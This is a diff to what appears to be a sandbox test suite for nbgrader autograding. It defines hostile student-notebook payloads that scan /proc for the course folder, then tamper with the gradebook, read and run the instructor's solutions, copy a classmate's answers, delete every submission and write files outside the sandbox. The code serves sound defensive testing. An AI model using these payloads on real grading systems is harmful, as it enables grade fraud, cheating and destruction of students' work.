@@ -105,12 +105,16 @@ get_ipython().input_transformers_post.append(raise_in_graded_cells)
 # appended as the notebook's last cell (its report is then the last thing the code prints),
 # with {course!r}, {solutions!r}, {outside!r} and {classmate!r} replaced by absolute paths
 # and a name (the worst case: the student knows the layout). Each tries every way in it
-# knows and prints `REACHED [...]`: what it could write, read or delete. Run in nbgrader's
-# kernel, as before this design, (g) gave every later autograde full points (a trigger on
-# `grade`), (h) and (i) full points from the answers and a classmate's notebook, (i) and (j)
-# deleted and wrote the course's files.
+# knows and prints `REACHED [...]`: what it could write, read or delete. In nbgrader's kernel,
+# as autograde ran every notebook until this design (see docs/nbgrader.md), (g)
+# added its trigger, table and row, and every notebook autograded after it got full points,
+# an untouched one too; (h) printed the instructor's solution cells into the autograded
+# notebook; (i) deleted every submission (the rest of the autograde failed); (j) wrote its
+# marker into the course, autograded/, the folders above, /tmp, /var/tmp, /dev/shm and /root.
+# They use os and json alone where they can: the sandbox's allow-list may hold no other module,
+# and an attack that fails on its import proves nothing.
 FIND_COURSE = r'''
-import glob, os, sqlite3
+import json, os
 reached = []
 def places():
     here = os.getcwd()
@@ -120,9 +124,13 @@ def places():
             break
         here = os.path.dirname(here)
     yield {course!r}  # the course's absolute path
-    for cwd in glob.glob("/proc/[0-9]*/cwd"):  # where the grader's processes run
+    try:
+        pids = [p for p in os.listdir("/proc") if p.isdigit()]
+    except OSError:
+        pids = []
+    for pid in pids:  # where the grader's processes run
         try:
-            yield os.readlink(cwd)
+            yield os.readlink(f"/proc/{pid}/cwd")
         except OSError:
             pass
 '''
@@ -131,19 +139,28 @@ MARKER_FOLDERS = ("/tmp", "/var/tmp", "/dev/shm", "/root", os.path.expanduser("~
 LOOT = {
     # (g) the gradebook: a trigger that gives every grade full points, a table, a row.
     "zz_hostile_gradebook": ("untouched", FIND_COURSE + r'''
+try:
+    import sqlite3
+except ImportError:  # then the file's bytes: a page header overwritten breaks the gradebook
+    sqlite3 = None
 for place in places():
     db = os.path.join(place, "gradebook.db")
     try:
         if not os.path.isfile(db):
             continue
-        con = sqlite3.connect(db)
-        con.executescript("""
-            CREATE TRIGGER full_marks AFTER UPDATE OF auto_score ON grade
-            BEGIN UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE id = NEW.cell_id)
-                  WHERE id = NEW.id; END;
-            CREATE TABLE owned (x); INSERT INTO owned VALUES (1);
-            INSERT INTO student (id) VALUES ('zz_ghost');""")
-        con.commit()
+        if sqlite3 is None:
+            with open(db, "r+b") as f:
+                f.seek(100)
+                f.write(b"owned")
+        else:
+            con = sqlite3.connect(db)
+            con.executescript("""
+                CREATE TRIGGER full_marks AFTER UPDATE OF auto_score ON grade
+                BEGIN UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE id = NEW.cell_id)
+                      WHERE id = NEW.id; END;
+                CREATE TABLE owned (x); INSERT INTO owned VALUES (1);
+                INSERT INTO student (id) VALUES ('zz_ghost');""")
+            con.commit()
         reached.append("wrote " + db)
     except Exception:
         pass
@@ -152,17 +169,16 @@ print("REACHED", reached)
     # (h) the answers: the instructor's source/ notebook and the grader's solutions, printed
     # and run as the submission's own code.
     "zz_hostile_answers": ("untouched", FIND_COURSE + r'''
-import json
 for path in [os.path.join(p, "source", "ps2", "ps2.ipynb") for p in places()] + [{solutions!r}]:
     try:
         text = open(path).read()
     except Exception:
         continue
     reached.append("read " + path)
-    print(text[:2000])
     cells = json.loads(text)["cells"] if path.endswith(".ipynb") else [{"cell_type": "code", "source": text}]
     for c in cells:
         if c["cell_type"] == "code" and ("BEGIN SOLUTION" in "".join(c["source"]) or path.endswith(".py")):
+            print("".join(c["source"])[:300])
             try:
                 exec("".join(c["source"]), globals())
             except Exception:
@@ -171,7 +187,6 @@ print("REACHED", reached)
 ''', NONE),
     # (i) the classmates: read a right notebook and run its answers, then delete submissions.
     "zz_hostile_classmates": ("untouched", FIND_COURSE + r'''
-import json, shutil
 for place in places():
     theirs = os.path.join(place, "submitted", {classmate!r}, "ps2", "ps2.ipynb")
     try:
@@ -185,12 +200,13 @@ for place in places():
                 exec("".join(c["source"]), globals())
             except Exception:
                 pass
-    for victim in glob.glob(os.path.join(place, "submitted", "*")):
-        try:
-            shutil.rmtree(victim)
-            reached.append("deleted " + victim)
-        except Exception:
-            pass
+    for folder, _, files in os.walk(os.path.join(place, "submitted"), topdown=False):
+        for victim in [os.path.join(folder, f) for f in files] + [folder]:
+            try:
+                os.remove(victim) if victim != folder else os.rmdir(victim)
+                reached.append("deleted " + victim)
+            except Exception:
+                pass
 print("REACHED", reached)
 ''', NONE),
     # (j) writing outside its folder, on right answers (whose points it must not cost): the
